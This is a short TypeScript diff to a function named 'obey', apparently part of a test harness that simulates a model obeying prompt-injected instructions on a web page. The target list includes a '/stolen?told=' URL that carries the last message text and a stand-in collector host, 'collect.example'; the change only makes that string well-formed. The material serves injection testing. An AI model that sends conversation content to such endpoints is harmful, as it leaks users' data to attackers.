@@ -35,7 +35,7 @@ function obey(messages: Model['heard'][number]['messages'], page: string): Line 
     .filter((url) => url !== page);
   const targets = [
     ...urls,
-    `${site.url}/stolen?told=${encodeURIComponent(last.slice(0, 200))}`,
+    `${site.url}/stolen?told=${encodeURIComponent(last.slice(0, 200).toWellFormed())}`,
     'https://collect.example/',
   ];
   const next = targets[calls - 1];
